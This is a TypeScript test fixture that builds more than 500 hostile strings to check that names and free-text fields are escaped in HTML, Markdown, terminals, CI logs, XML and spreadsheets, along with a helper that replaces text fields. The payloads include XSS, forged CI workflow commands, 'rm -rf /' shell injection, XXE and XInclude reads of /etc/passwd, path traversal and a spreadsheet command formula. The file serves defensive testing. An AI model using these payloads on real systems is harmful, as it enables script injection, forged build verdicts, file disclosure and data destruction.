/** What attackers and accidents put into names: each tries to be more than text in at least one medium. */
const ATTEMPTS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</details></summary><b>out</b>',
  '--> <!-- seaworthy:other v1 at=1 -->',
  '--!> closed',
  '<![CDATA[ x ]]> ]]>',
  '&lt;b&gt; &#x3c;script&#x3e; &copy; &',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>&a;',
  '" onload="alert(1)',
  "' onfocus='alert(1)",
  '![image](https://evil.example/pixel.png)',
  '[link](javascript:alert(1))',
  '[ref]: https://evil.example "title"',
  '[^1] footnote',
  'https://evil.example/path?a=b#c',
  'www.evil.example',
  'mailto:someone@evil.example',
  'someone@evil.example',
  'ftp://evil.example',
  '@octocat',
  '@acme/owners please approve',
  'fixes #1, closes acme/shop#2 and GH-3',
  '7d3e1b0c5a2f48e9b6d1a41f2c97d03be8516fc2',
  ':shipit: :+1: :100:',
  '$x^2$ and $$y$$',
  '`code` ``more`` ```fence```',
  '```\nout of the fence\n```',
  '~~~ other fence',
  '\\`escaped\\` \\\\` twice',
  '| a | b |',
  '\\| backslash pipe \\\\|',
  'cell \\',
  '**bold** __strong__ *em* _em_ ~~gone~~',
  '# heading',
  '> [!CAUTION]\n> alert',
  '- item',
  '+ item',
  '1. item',
  '1) item',
  '---',
  '===',
  '- [x] task',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31m C1 \u0085 next line',
  '\u001b[2J\u001b[H cleared',
  'back\u0008\u0008\u0008space \u0000 null \u007f',
  '\r\n::error file=x::injected',
  '::add-mask::secret',
  '  ::set-output name=verdict::pass',
  '##[error]old form',
  '##vso[task.complete result=Succeeded]',
  '%0A::warning::encoded',
  '\u202egnp.exe\u202c reversed',
  '\u2066isolate\u2069 \u200fmark',
  'zero\u200bwidth\u200djoin\ufeff\u00ad',
  '\u{e0041}\u{e0042} tags',
  '\ud800 half \udc00 pair',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a tower',
  '漢字かな交じりの名前で幅が二倍になる'.repeat(3),
  '👩‍👩‍👧‍👦 family 🏴‍☠️',
  '$(id) `id` ; rm -rf / && "$HOME"',
  '\'; echo "',
  `$${'{{'} secrets.GITHUB_TOKEN }}`,
  '{{ template }} {% raw %}',
  '\u2028line\u2029paragraph',
  '\ufffe\uffff not characters',
  '＠octocat ﹫octocat and ＃1',
  '@\u200boctocat @\u00adoctocat',
  '!1 and acme/shop!2 and acme/shop@7d3e1b0',
  'https:&#47;&#47;evil.example',
  'HTTPS://EVIL.EXAMPLE WWW.EVIL.EXAMPLE',
  'xmpp:a@evil.example/resource',
  '<https://evil.example> <a@evil.example>',
  '[a][b]\n\n[b]: https://evil.example',
  '<!-- open',
  '<details open><summary>own</summary>',
  '<a href="javascript:alert(1)">x</a><form action="https://evil.example"><input autofocus onfocus=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg><math><mi xlink:href="javascript:alert(1)">',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
  '</title><textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
  '```math\n\\\\href{javascript:alert(1)}{x}\n```',
  '$`a`$ \\\\( x \\\\)',
  '```suggestion\nrm\n```',
  '    indented code',
  'hard break  \nand \\\\\nmore',
  '::stop-commands::token',
  '::endgroup::\n::group::mine',
  '::save-state name=verdict::pass',
  '::set-env name=PATH::/evil',
  '\t::error::after a tab',
  '##[group]x ##[endgroup] ##[command]x',
  '%250A::error::twice %0D%0A::error::both',
  '\u001b]0;title\u0007\u001bP+q\u001b\\\\\u001b_x\u001b\\\\',
  '\u0090q\u009c\u009d8;;https://evil.example\u009c',
  '\u001b[6n\u001b[?1049h\u001bc',
  '\u061c\u200e\u200f\u202a\u202b\u202d marks',
  '\u3164\u115f\u1160\uffa0 fillers \u2800 blank',
  '\ufff9a\ufffab\ufffb annotation',
  '\u0430dmin p\u0430ypal homoglyphs',
  ']]>]]&gt;<![CDATA[<x/>]]>',
  '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;',
  '<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
  '&#0; &#xD800; &#x1F; &undefined; &#99999999;',
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '{"verdict":"pass"} </script><script>alert(1)</script>',
  '\\\\u003cscript\\\\u003e \\\\x3c \\\\74',
  'ghadelimiter_00000000-0000-0000-0000-000000000000\nverdict=pass\nghadelimiter_',
  'EOF\nverdict=pass\nx<<EOF',
  '$(params.token) $(context.taskRun.name) $(workspaces.reports.path)',
  '$$(params.token) $(tasks.x.results.y)',
  '%2e%2e%2f..%2f ../../etc/passwd ..\\\\..\\\\x',
  'file:///etc/passwd C:\\\\Windows \\\\\\\\host\\\\share',
  'a,b;c\td"e\'f',
  'x'.repeat(100_000),
  '@a '.repeat(200),
  '<b>'.repeat(200),
  '\ud83d'.repeat(60),
  '__proto__',
  'constructor',
  '',
  '   ',
  'x'.repeat(700),
  '`'.repeat(300),
  '|'.repeat(300),
  '['.repeat(300),
]

/** At least 500: every attempt alone, in a sentence, at a line's end, and next to another one. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...ATTEMPTS,
  ...ATTEMPTS.map((text) => `web ${text} api`),
  ...ATTEMPTS.map((text) => `\n${text}\n`),
  ...ATTEMPTS.map((text, place) => `${text}${ATTEMPTS[(place * 7 + 3) % ATTEMPTS.length]}`),
  ...ATTEMPTS.map((text) => `a${text}`),
  ...ATTEMPTS.map((text) => `\\${text}`),
  ...ATTEMPTS.map((text) => `${text}\\`),
]

/** Keys whose texts come from suites, clusters, services or the judge's sentences. Words of a closed list stay. */
const TEXT_KEYS: ReadonlySet<string> = new Set(
  'name detail means description workload target mechanism objective seen what why remedy text service parameter digest id version machine shard head base branch repository runUrl engine file type summary phase'.split(
    ' ',
  ),
)
const LIST_KEYS: ReadonlySet<string> = new Set(['targets', 'touched', 'untouched', 'warnings', 'outside', 'queries'])

/** The same value with every free text in it replaced, by one or by its key; numbers, verdicts and codes stay. */
export function withText<T>(value: T, text: string | ((key: string) => string)): T {
  return replaced(value, '', text) as T
}

function replaced(value: unknown, key: string, text: string | ((key: string) => string)): unknown {
  if (typeof value === 'string') {
    if (!TEXT_KEYS.has(key) && !LIST_KEYS.has(key)) return value
    return typeof text === 'string' ? text : text(key)
  }
  if (Array.isArray(value)) return value.map((item) => replaced(item, key, text))
  if (typeof value !== 'object' || value === null) return value
  const entries = Object.entries(value).map(
    ([inner, part]) => [inner, keeps(key, inner) ? part : replaced(part, inner, text)] as const,
  )
  return Object.fromEntries(entries)
}

/** Names that are words of ours. */
function keeps(parent: string, key: string): boolean {
  return key === 'name' && (parent === 'tool' || parent === 'platform')
}
